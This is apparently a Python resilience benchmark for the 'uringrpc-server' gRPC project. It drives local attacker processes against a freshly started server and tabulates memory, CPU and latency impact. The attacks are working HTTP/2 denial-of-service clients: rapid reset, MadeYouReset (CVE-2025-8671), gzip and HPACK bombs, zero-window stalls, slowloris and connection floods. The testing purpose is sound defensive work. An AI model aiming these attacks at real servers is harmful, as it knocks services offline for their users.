#!/usr/bin/python3
"""Hostile clients against uringrpc-server, measured: run by bench/hostile.sh (see there and
bench/README.md for the environment it reads).

  hostile.py                         the driver: a baseline, then each attack in ATTACKS
  hostile.py worker NAME PORT HOLD   one attacker process (the driver starts several)

For each attack the driver starts a fresh server, starts the attacker processes, waits until
they are in full swing ("READY"), then runs the good client (python3-grpcio, SayHello at a
fixed rate) beside them; it samples the server's RSS, descriptors and CPU all along, and after
the attackers are gone and SETTLE seconds more, reads RSS again and stops the server for its
per-shard exit counters. Attackers print "READY" and, at the end, "RESULT {json}": counts of
what they saw (GOAWAY/RST_STREAM codes, grpc-status, closes) and a few facts ("info").
"""
import collections
import json
import os
import select
import signal
import socket
import subprocess
import sys
import time

from hostile_lib import (
    COUNT_SLOWLY, MAX_WINDOW, PING, SAY_HELLO, S_INITIAL_WINDOW_SIZE, UNARY_CALL, Closed,
    RawConn, Sampler, ServerProc, nofile_limit, proc_status, data_frame, fmt_mib, fmt_ms, free_port, grpc_frame,
    gzip_bomb_message, headers_frame, hello_request, hpack_bomb_block, log, ping_message,
    preface_conn, raise_nofile, request_block, rst_stream, simple_request, unary_frames,
    window_update)

HERE = os.path.dirname(os.path.abspath(__file__))


def env_num(name, default):
    v = os.environ.get(name, "")
    return type(default)(v) if v else default


DURATION = env_num("DURATION", 10.0)
SETTLE = env_num("SETTLE", 5.0)
LATE_SETTLE = env_num("LATE_SETTLE", 15.0)
GOOD_RATE = env_num("GOOD_RATE", 50.0)
GOOD_DEADLINE = env_num("GOOD_DEADLINE", 2.0)
RSS_CAP_MB = env_num("RSS_CAP_MB", 4096)
READY_TIMEOUT = env_num("READY_TIMEOUT", 120.0)


# ---- the attacks: each runs in a worker process until stop() -----------------------------
# fn(port, stop, obs, info, p): obs is a Counter of what the server did, info a dict of facts,
# p the attack's parameters; fn calls stop.ready() once it is in full swing.

def reset_defer(port, stop, obs, info, p):
    """Ping (delayNanos 10 s: the handler defers) then at once RST_STREAM(CANCEL), as fast as
    possible; with p['madeyoureset'] a WINDOW_UPDATE of 2^31-1 on the stream instead, which
    overflows its window and makes the server reset it (CVE-2025-8671)."""
    block = request_block(PING)
    msg = grpc_frame(ping_message(delay_ns=10 * 10**9))
    myr = p.get("madeyoureset", False)
    t0 = time.monotonic()
    conn, first_goaway = None, None
    stop.ready()
    while not stop():
        if conn is None or conn.dead:
            first_goaway = first_of(first_goaway, conn, t0)
            conn = reconnect(port, obs, conn)
            if conn is None:
                continue
        out = bytearray()
        for _ in range(50):
            sid = conn.new_sid()
            out += headers_frame(sid, block) + data_frame(sid, msg, True)
            out += window_update(sid, MAX_WINDOW) if myr else rst_stream(sid)
        try:
            conn.send(out)
            obs["streams opened"] += 50
        except (Closed, TimeoutError):
            continue
        conn.pump(0)
        if obs["streams opened"] >= p.get("max_streams", float("inf")):
            break
    info["first GOAWAY after s"] = first_of(first_goaway, conn, t0)
    conn and conn.close()


def first_of(best, conn, t0):
    """The earliest GOAWAY time (seconds after t0) seen so far, counting `conn`'s."""
    if conn is not None and conn.goaway_at is not None:
        t = round(conn.t0 + conn.goaway_at - t0, 2)
        return t if best is None else min(best, t)
    return best


def reconnect(port, obs, old):
    if old is not None:
        old.close()
    try:
        return RawConn(port, obs)
    except OSError as e:
        obs[f"connect failed: {e.__class__.__name__}"] += 1
        time.sleep(0.05)
        return None


def madeyoureset(port, stop, obs, info, p):
    reset_defer(port, stop, obs, info, dict(p, madeyoureset=True))


def gzip_bomb(port, stop, obs, info, p):
    """p['conns'] connections, p['calls'] calls in all, each one gzip message of ~4 KiB that
    inflates to ~4 MiB, to the client-streaming CountSlowly, never half-closed; a call the
    server ends is replaced by a new one."""
    bomb, inflated = gzip_bomb_message()
    info["bomb"] = f"{len(bomb)} B -> {inflated} B"
    block = request_block(COUNT_SLOWLY, [("grpc-encoding", "gzip"),
                                         ("grpc-accept-encoding", "identity")])
    msg = grpc_frame(bomb, compressed=True)
    per = max(1, p["calls"] // p["conns"])
    conns = [None] * p["conns"]
    calls = [set() for _ in conns]
    while not stop():
        for i in range(len(conns)):
            c = conns[i]
            if c is None or c.dead:
                conns[i] = c = reconnect(port, obs, c)
                calls[i] = set()
                if c is None:
                    continue
            calls[i] = {s for s in calls[i] if s not in c.ended and s not in c.resets}
            try:
                while len(calls[i]) < per:
                    sid = c.new_sid()
                    c.send(headers_frame(sid, block) + data_frame(sid, msg))
                    calls[i].add(sid)
                    obs["bomb calls"] += 1
            except (Closed, TimeoutError):
                continue
            c.pump(0)
        if not stop.is_ready and all(len(s) >= per for s in calls):
            stop.ready()
        time.sleep(0.05)
    info["calls open at end"] = sum(len(s) for s in calls)
    for c in conns:
        c and c.close()


def hpack_bomb(port, stop, obs, info, p):
    """Header blocks of ~15 KB: one ~4 KB header inserted into the HPACK dynamic table, then
    ~11,000 one-byte references to it (~44 MB of header list each), a new stream each."""
    method, path = ("GET", "/index.html") if p.get("plain_http") else ("POST", SAY_HELLO)
    block, refs = hpack_bomb_block(path, method=method)
    info["block"] = f"{len(block)} B, {refs} refs"
    conn = None
    stop.ready()
    while not stop():
        if conn is None or conn.dead:
            conn = reconnect(port, obs, conn)
            if conn is None:
                continue
        out = bytearray()
        for _ in range(4):
            out += headers_frame(conn.new_sid(), block, end_stream=True)
        try:
            conn.send(out)
            obs["bomb blocks"] += 4
        except (Closed, TimeoutError):
            continue
        conn.pump(0)
        if obs["bomb blocks"] >= p.get("max_blocks", float("inf")):
            break
    conn and conn.close()


def zero_window(port, stop, obs, info, p):
    """SETTINGS_INITIAL_WINDOW_SIZE 0, then p['streams'] UnaryCalls asking for p['size']-byte
    responses; the windows (stream and connection) are never opened."""
    conn = RawConn(port, obs, settings=((S_INITIAL_WINDOW_SIZE, 0),), conn_window=65535)
    block = request_block(UNARY_CALL)
    msg = simple_request(p["size"])
    sids = []
    try:
        for _ in range(p["streams"]):
            sid = conn.new_sid()
            conn.send(unary_frames(sid, block, msg))
            sids.append(sid)
    except (Closed, TimeoutError):
        pass
    obs["streams opened"] += len(sids)
    stop.ready()
    while not stop() and not conn.dead:
        conn.pump(0.2)
    info["streams with response HEADERS or reset"] = sum(
        1 for s in sids if s in conn.status or s in conn.resets or conn.data_bytes[s])
    conn.close()


def slowloris(port, stop, obs, info, p):
    """p['conns'] connections, half of them silent (no preface), half with the preface and
    SETTINGS ACK but no stream; held until stop(); counts how many the server closed."""
    raise_nofile(p["conns"] + 256)
    socks, failed = [], 0
    for i in range(p["conns"]):
        try:
            if i % 2:
                s = preface_conn(port, obs)
            else:
                s = socket.create_connection(("127.0.0.1", port), timeout=10)
                obs["connections"] += 1
            s.setblocking(False)
            socks.append(s)
        except OSError as e:
            failed += 1
            obs[f"connect failed: {e.__class__.__name__}"] += 1
    ep = select.epoll()
    for s in socks:
        ep.register(s.fileno(), select.EPOLLIN)
    by_fd = {s.fileno(): s for s in socks}
    closed = 0
    stop.ready()
    while not stop():
        for fd, _ in ep.poll(0.2):
            try:
                data = by_fd[fd].recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if not data:
                ep.unregister(fd)
                closed += 1
                obs["closed by server"] += 1
    info["opened"], info["connect failures"] = len(socks), failed
    info["still open at end"] = len(socks) - closed
    ep.close()
    for s in socks:
        s.close()


def conn_flood(port, stop, obs, info, p):
    """p['conns'] connections opened in waves of p['wave']: each completes the preface and
    one SayHello; all are held until stop() (the driver's signal once every worker is
    READY and the peak was measured), then closed together."""
    raise_nofile(p["conns"] + 256)
    block = request_block(SAY_HELLO)
    msg = hello_request("flood")
    conns, ok, failed = [], 0, 0
    while len(conns) + failed < p["conns"] and not stop.expired():
        wave = []
        for _ in range(min(p["wave"], p["conns"] - len(conns) - failed)):
            try:
                c = RawConn(port, obs)
                c.send(unary_frames(c.new_sid(), block, msg))
                wave.append(c)
            except (OSError, Closed, TimeoutError) as e:
                failed += 1
                obs[f"connect failed: {e.__class__.__name__}"] += 1
        for c in wave:
            if c.pump_until(lambda c=c: 1 in c.status or 1 in c.resets, 10) and \
                    c.status.get(1) == 0:
                ok += 1
        conns += wave
    info["opened"], info["SayHello OK"], info["failed"] = len(conns), ok, failed
    stop.ready()
    while not stop():
        time.sleep(0.1)
    info["closed by server before the end"] = sum(1 for c in conns if c.pump(0) or c.eof)
    for c in conns:
        c.close()


def cancel_rate(port, stop, obs, info, p):
    """One connection, p['rate'] calls/s in 10 ms ticks: half SayHello (must succeed), half
    Ping with delayNanos 100 ms that the client cancels (RST_STREAM CANCEL) one tick later,
    like grpc-go's interop stress client. A GOAWAY or close means reconnecting, as a client
    would; calls that connection still owed count as failed."""
    hello = (request_block(SAY_HELLO), hello_request("cancel_rate"))
    ping = (request_block(PING), ping_message(delay_ns=100 * 10**6))
    per_tick = max(2, int(p["rate"] / 100))
    done_conns, conn, plain, to_cancel = [], None, [], []
    t0 = time.monotonic()
    first_goaway = None
    stop.ready()
    k = 0
    while not stop():
        due = t0 + k * 0.01
        k += 1
        if due > time.monotonic():
            time.sleep(due - time.monotonic())
        if conn is None or conn.dead:
            first_goaway = first_of(first_goaway, conn, t0)
            conn and done_conns.append(conn)
            conn = reconnect(port, obs, conn)
            to_cancel = []
            if conn is None:
                continue
        out = bytearray(b"".join(rst_stream(s) for _, s in to_cancel))
        obs["cancelled by us"] += len(to_cancel)
        to_cancel = []
        for i in range(per_tick):
            sid = conn.new_sid()
            block, msg = ping if i % 2 else hello
            out += unary_frames(sid, block, msg)
            (to_cancel if i % 2 else plain).append((conn, sid))
        try:
            conn.send(out)
            obs["calls"] += per_tick
        except (Closed, TimeoutError):
            continue
        conn.pump(0)
    elapsed = time.monotonic() - t0
    if conn is not None:
        conn.pump_until(lambda: all(s in c.status or s in c.resets or c.dead
                                    for c, s in plain if c is conn), 3)
        first_goaway = first_of(first_goaway, conn, t0)
    info["calls/s achieved"] = round(obs["calls"] / elapsed)
    info["first GOAWAY after s"] = first_goaway
    info.update(plain_outcomes(plain))
    for c in done_conns + [conn]:
        c and c.close()


def plain_outcomes(plain):
    """What became of the calls that were not cancelled: OK, a grpc error, a reset, nothing."""
    out = collections.Counter()
    for c, sid in plain:
        if c.status.get(sid) == 0:
            out["uncancelled OK"] += 1
        elif sid in c.status:
            out[f"uncancelled grpc-status {c.status[sid]}"] += 1
        elif sid in c.resets:
            out["uncancelled reset"] += 1
        else:
            out["uncancelled never answered"] += 1
    return dict(out)


# ---- the worker process -------------------------------------------------------------------

class Stop:
    """Until when an attacker runs: `hold` seconds after ready(), or SIGUSR1/SIGTERM."""

    def __init__(self, hold):
        self.hold = hold
        self.deadline = time.monotonic() + hold + READY_TIMEOUT
        self.flag = False
        self.is_ready = False
        self.announced = False
        for sig in (signal.SIGUSR1, signal.SIGTERM):
            signal.signal(sig, self._signalled)

    def _signalled(self, *_):
        self.flag = True

    def ready(self):
        if not self.is_ready:
            self.is_ready = True
            self.deadline = time.monotonic() + self.hold
            print("READY", flush=True)

    def expired(self):
        if not (self.flag or time.monotonic() >= self.deadline):
            return False
        if not self.announced:  # the driver counts the server's descriptors in this pause
            self.announced = True
            print("DONE", flush=True)
            time.sleep(0.5)
        return True

    __call__ = expired


def worker_main(name, port, hold, params):
    # Lower priority than the server and the good client: real attackers sit on other machines.
    os.nice(env_num("ATTACKER_NICE", 10))
    obs, info = collections.Counter(), {}
    stop = Stop(hold)
    try:
        ATTACKS[name].fn(port, stop, obs, info, params)
    except Exception as e:  # report it as something seen, never hang the driver
        info["worker error"] = repr(e)[:200]
    stop.ready()  # an attack that failed early still lets the driver go on
    print("RESULT " + json.dumps({"obs": obs, "info": info}), flush=True)


# ---- the driver ---------------------------------------------------------------------------

class Attack:
    def __init__(self, fn, procs, params, hold=None, release=True, good_at_once=False,
                 good_seconds=None):
        self.fn, self.procs, self.params = fn, procs, params
        self.hold = hold            # the workers' own limit after READY
        self.release = release      # the driver stops them (SIGUSR1) when the good client is done
        self.good_at_once = good_at_once  # good client starts with the attackers, not after READY
        self.good_seconds = good_seconds


def attack_table():
    d = DURATION
    slow_hold = env_num("SLOWLORIS_HOLD", 30.0)
    cancel_s = env_num("CANCEL_SECONDS", 30.0)
    flood_procs = env_num("FLOOD_PROCS", 4)
    return {
        "reset_defer": Attack(reset_defer, env_num("RESET_CONNS", 4), {}),
        "madeyoureset": Attack(madeyoureset, env_num("RESET_CONNS", 4), {}),
        "gzip_bomb": Attack(gzip_bomb, 2, {"conns": max(1, env_num("GZIP_CONNS", 4) // 2),
                                           "calls": env_num("GZIP_CALLS", 100) // 2}),
        "hpack_bomb": Attack(hpack_bomb, env_num("HPACK_CONNS", 2), {}),
        "zero_window": Attack(zero_window, 1, {"streams": env_num("ZW_STREAMS", 200),
                                               "size": env_num("ZW_SIZE", 4 << 20)}),
        "slowloris": Attack(slowloris, 2, {"conns": env_num("SLOWLORIS_CONNS", 4000) // 2},
                            hold=slow_hold, release=False, good_seconds=min(d, slow_hold)),
        "conn_flood": Attack(conn_flood, flood_procs,
                             {"conns": env_num("FLOOD_CONNS", 20000) // flood_procs,
                              "wave": env_num("FLOOD_WAVE", 200)},
                             hold=env_num("FLOOD_TIMEOUT", 180.0), good_at_once=True),
        "cancel_rate": Attack(cancel_rate, 1, {"rate": env_num("CANCEL_RATE", 1000)},
                              hold=cancel_s, release=False, good_seconds=cancel_s),
    }


ATTACKS = attack_table()


class Child:
    """A child process of ours whose stdout lines we collect without blocking."""

    def __init__(self, argv, err_path):
        self.err = open(err_path, "ab")
        self.proc = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                                     stderr=self.err, cwd=HERE)
        os.set_blocking(self.proc.stdout.fileno(), False)
        self.buf = b""
        self.lines = []

    def poll_output(self):
        try:
            while True:
                chunk = os.read(self.proc.stdout.fileno(), 65536)
                if not chunk:
                    break
                self.buf += chunk
        except BlockingIOError:
            pass
        *done, self.buf = self.buf.split(b"\n")
        self.lines += [l.decode(errors="replace") for l in done]

    def has(self, prefix):
        return any(l.startswith(prefix) for l in self.lines)

    def line(self, prefix):
        return next((l[len(prefix):] for l in self.lines if l.startswith(prefix)), None)

    def alive(self):
        return self.proc.poll() is None

    def signal(self, sig):
        if self.alive():
            os.kill(self.proc.pid, sig)

    def finish(self, timeout):
        """Waits up to `timeout`, then SIGKILL; collects the last output."""
        try:
            self.proc.wait(timeout=max(0.1, timeout))
        except subprocess.TimeoutExpired:
            self.signal(signal.SIGKILL)
            self.proc.wait(timeout=10)
        self.poll_output()
        if self.buf:
            self.lines.append(self.buf.decode(errors="replace"))
            self.buf = b""
        self.err.close()


class Run:
    """One server's life under one attack (or none): samples, results, the row of the table."""

    def __init__(self, label, server, out_dir, good_mode):
        self.label, self.server, self.out_dir, self.good_mode = label, server, out_dir, good_mode
        self.sampler = Sampler(server.pid)
        self.notes = []
        self.crashed = None
        self.fds_end, self.fds_frozen = None, False

    def wait(self, cond, timeout, attackers=()):
        """Samples every 0.25 s until cond() or `timeout`; stops the attackers (SIGUSR1) if the
        server's RSS passes RSS_CAP_MB; notes a crash."""
        deadline = time.monotonic() + timeout
        while True:
            for a in attackers:
                a.poll_output()
            _, rss, fds, _ = self.sampler.sample()
            if attackers and not self.fds_frozen and fds is not None:
                self.fds_end = fds  # the last count before an attacker lets go
                self.fds_frozen = any(a.has("DONE") or not a.alive() for a in attackers)
            if not self.server.alive():
                self.crashed = self.crashed or f"server died (rc={self.server.proc.returncode})"
                return False
            if rss and rss > RSS_CAP_MB * 1024 and attackers:
                self.notes.append(f"RSS passed RSS_CAP_MB={RSS_CAP_MB}: attack stopped early")
                for a in attackers:
                    a.signal(signal.SIGUSR1)
                attackers = ()
            if cond():
                return True
            if time.monotonic() >= deadline:
                return False
            time.sleep(0.25)

    def good_client(self, seconds):
        argv = [sys.executable, os.path.join(HERE, "hostile_lib.py"), "good", self.good_mode,
                str(self.server.port), str(GOOD_RATE), str(seconds), str(GOOD_DEADLINE)]
        return Child(argv, os.path.join(self.out_dir, f"{self.label}.good.stderr"))

    def execute(self, name):
        """Runs attack `name` (None: the unloaded baseline) against the server."""
        time.sleep(1)
        _, self.rss0, _, cpu0 = self.sampler.sample()
        spec = ATTACKS.get(name)
        workers = self.start_attackers(name, spec) if spec else []
        good = self.attack_phase(spec, workers)
        cpu1 = self.sampler.sample()[3]
        self.cpu = None if cpu0 is None or cpu1 is None else cpu1 - cpu0
        self.good = json.loads(good.lines[-1]) if good.lines else None
        self.collect(workers)
        self.after_phase()

    def start_attackers(self, name, spec):
        hold = spec.hold if spec.hold is not None else DURATION + 60
        params = dict(spec.params, **({"plain_http": True} if self.good_mode == "h2get" else {}))
        argv = [sys.executable, os.path.abspath(__file__), "worker", name, str(self.server.port),
                str(hold), json.dumps(params)]
        err = os.path.join(self.out_dir, f"{self.label}.attack.stderr")
        return [Child(argv, err) for _ in range(spec.procs)]

    def attack_phase(self, spec, workers):
        """The attackers in full swing and the good client beside them, until both are done;
        returns the good client (finished)."""
        good_s = (spec.good_seconds if spec else None) or DURATION
        all_ready = lambda: all(w.has("READY") or not w.alive() for w in workers)  # noqa: E731
        good = self.good_client(good_s) if spec and spec.good_at_once else None
        if workers and not self.wait(all_ready, READY_TIMEOUT, workers):
            self.notes.append("attackers not all READY in time")
        t_ready = time.monotonic()
        good = good or self.good_client(good_s)
        self.wait(lambda: not good.alive(), good_s + 60, workers)
        # A good client that gave up early does not shorten the attack.
        self.wait(lambda: time.monotonic() >= t_ready + good_s, good_s, workers)
        if spec and spec.good_at_once:  # conn_flood: hold the peak until every worker is READY
            self.wait(all_ready, READY_TIMEOUT, workers)
            self.wait(lambda: False, 2, workers)
        if spec and spec.release:
            for w in workers:
                w.signal(signal.SIGUSR1)
        hold_left = (spec.hold or 0) if spec and not spec.release else 0
        self.wait(lambda: not any(w.alive() for w in workers), hold_left + 30, workers)
        for w in workers:
            w.finish(5)
        good.finish(10)
        return good

    def after_phase(self):
        """RSS SETTLE and LATE_SETTLE seconds after the attackers left, and the peak."""
        self.wait(lambda: False, SETTLE)
        self.rss_after = self.sampler.sample()[1]
        self.rss_late = None
        if LATE_SETTLE > SETTLE:
            self.wait(lambda: False, LATE_SETTLE - SETTLE)
            self.rss_late = self.sampler.sample()[1]
        self.hwm = proc_status(self.server.pid).get("VmHWM")

    def collect(self, workers):
        self.obs, self.info = collections.Counter(), {}
        for w in workers:
            res = w.line("RESULT ")
            if res is None:
                self.notes.append("an attacker gave no result (see its stderr)")
                continue
            r = json.loads(res)
            self.obs.update(r["obs"])
            for k, v in r["info"].items():
                self.info[k] = merge_info(k, self.info.get(k), v)

    def stop(self):
        self.nofile = nofile_limit(self.server.pid)
        how, stats = self.server.stop()
        lines, top = self.server.stderr_summary()
        if lines > 100:
            self.notes.append(f"server wrote {lines} lines to stderr, most often: "
                              + "; ".join(f"{n}x '{m[:80]}'" for m, n in top))
        self.crashed = self.crashed or how
        self.stats = stats
        if self.crashed and "died" in self.crashed:
            self.notes.append("stderr: " + self.server.stderr_tail(300).replace("\n", " | "))


def merge_info(key, a, b):
    """Per-worker facts into one: sums for counts, the smallest time for 'after s'."""
    if a is None:
        return b
    if b is None:
        return a
    if isinstance(a, (int, float)) and isinstance(b, (int, float)):
        return min(a, b) if key.endswith("after s") else a + b
    return a if a == b else f"{a}; {b}"


def uringrpc_server(out_dir, tag):
    argv = [os.environ["URPC_BIN"], "--listen", "127.0.0.1:0", "--shards",
            os.environ.get("SHARDS", "2")] + os.environ.get("URPC_ARGS", "").split()
    return ServerProc(argv, out_dir, tag)


def nghttpd_server(out_dir, tag):
    docroot = os.path.join(out_dir, "docroot")
    os.makedirs(docroot, exist_ok=True)
    with open(os.path.join(docroot, "index.html"), "w") as f:
        f.write("hello\n")
    for _ in range(5):  # the free port may be taken meanwhile: a few tries
        port = free_port()
        try:
            return ServerProc(["nghttpd", "--no-tls", "-a", "127.0.0.1", "-d", docroot, str(port)],
                              out_dir, tag, port_from_stdout=False, port=port)
        except RuntimeError as e:
            err = e
    raise err


def run(label, factory, name, out_dir, good_mode="grpc"):
    log(f"== {label}")
    try:
        server = factory(out_dir, label)
    except RuntimeError as e:
        log(f"   could not start the server: {e}")
        return None
    r = Run(label, server, out_dir, good_mode)
    try:
        r.execute(name)
    finally:
        r.stop()
    log(f"   {row_text(r, None)}")
    return r


# ---- the table ----------------------------------------------------------------------------

HEAD = (f"{'attack':<20} {'RSS MiB start':>13} {'peak':>6} {'after':>6} {'late':>6} {'CPU s':>6} "
        f"{'good p50 ms':>11} {'p99 ms':>7} {'p99 x':>6} {'good err':>9} {'fds max':>8} "
        f"{'fds end':>8}  server exit")


def row_text(r, base):
    g = r.good or {}
    p99, bp99 = g.get("p99_ms"), (base.good or {}).get("p99_ms") if base and base.good else None
    ratio = f"{p99 / bp99:.1f}" if p99 and bp99 else "-"
    errs = f"{sum((g.get('errors') or {}).values())}/{g.get('sent', 0)}"
    return (f"{r.label:<20} {fmt_mib(r.rss0):>13} {fmt_mib(r.hwm):>6} {fmt_mib(r.rss_after):>6} "
            f"{fmt_mib(r.rss_late):>6} "
            f"{'-' if r.cpu is None else f'{r.cpu:.1f}':>6} {fmt_ms(g.get('p50_ms')):>11} "
            f"{fmt_ms(p99):>7} {ratio:>6} {errs:>9} "
            f"{r.sampler.max_fds() or '-':>8} {r.fds_end or '-':>8}  {exit_text(r)}")


def exit_text(r):
    if r.crashed:
        return r.crashed.upper()
    if not r.stats:
        return f"rc={r.server.rc}" if r.server.rc is not None else "-"
    tot = lambda k: sum(s[k] for s in r.stats)
    live = "+".join(str(s["live"]) for s in r.stats)
    return (f"rc={r.server.rc} live={live} calls={tot('calls')} ok={tot('ok')} "
            f"failed={tot('failed')} cancelled={tot('cancelled')} conns={tot('connections')}")


def details_text(r):
    parts = [f"{k}={v}" for k, v in sorted(r.obs.items(), key=lambda kv: -kv[1])]
    parts += [f"{k}: {v}" for k, v in r.info.items()]
    g = r.good or {}
    if g.get("errors"):
        parts.append("good client errors: " + ", ".join(f"{k} {v}" for k, v in g["errors"].items()))
    for unit in ("bomb blocks", "streams opened", "calls"):
        if r.obs.get(unit) and r.cpu:
            parts.append(f"server CPU per {unit[:-1] if unit.endswith('s') else unit}: "
                         f"{r.cpu / r.obs[unit] * 1e6:.0f} us")
            break
    parts += r.notes
    if r.sampler.max_fds() and r.sampler.max_fds() > 1000:
        parts.append(f"server RLIMIT_NOFILE {r.nofile}")
    return "; ".join(parts) if parts else "-"


def print_table(runs):
    base = {}
    print()
    print(f"== hostile clients: {DURATION:g} s per attack, good client {GOOD_RATE:g} SayHello/s "
          f"(deadline {GOOD_DEADLINE:g} s) ==")
    print(f"RSS: at start, peak (VmHWM), {SETTLE:g} s after the attack ('after') and "
          f"{LATE_SETTLE:g} s after it ('late'); CPU s: server utime+stime during the attack; "
          f"p99 x: good p99 / its baseline's; fds end: while the attack still held them")
    print(HEAD)
    print("-" * len(HEAD))
    for r in runs:
        where = r.label.partition("@")[2]
        if r.label.startswith("baseline") and where not in base:
            base[where] = r
        print(row_text(r, base.get(where)))
    print()
    print("what each attacker saw (counts summed over its processes), and notes:")
    for r in runs:
        if not r.label.startswith("baseline"):
            print(f"  {r.label}: {details_text(r)}")


def driver_main():
    out_dir = os.environ["OUT_DIR"]
    names = os.environ.get("ATTACKS", "").split() or list(ATTACKS)
    unknown = [n for n in names if n not in ATTACKS]
    if unknown:
        sys.exit(f"unknown attack(s) {unknown}; known: {' '.join(ATTACKS)}")
    raise_nofile(65536)
    runs = [run("baseline", uringrpc_server, None, out_dir)]
    for name in names:
        runs.append(run(name, uringrpc_server, name, out_dir))
    nghttpd = os.environ.get("NGHTTPD", "auto")
    if "hpack_bomb" in names and nghttpd != "0":
        if subprocess.run(["sh", "-c", "command -v nghttpd"], capture_output=True).returncode:
            log("SKIP hpack_bomb against nghttpd: not installed (apt-get install nghttp2-server)")
        else:
            runs.append(run("baseline@nghttpd", nghttpd_server, None, out_dir, "h2get"))
            runs.append(run("hpack_bomb@nghttpd", nghttpd_server, "hpack_bomb", out_dir, "h2get"))
    if os.environ.get("BASELINE_END", "1") != "0":  # the machine's noise, at the other end
        runs.append(run("baseline-end", uringrpc_server, None, out_dir))
    runs = [r for r in runs if r is not None]
    print_table(runs)
    return 1 if any(r.crashed for r in runs) else 0


if __name__ == "__main__":
    if len(sys.argv) > 1 and sys.argv[1] == "worker":
        worker_main(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), json.loads(sys.argv[5]))
    else:
        sys.exit(driver_main())
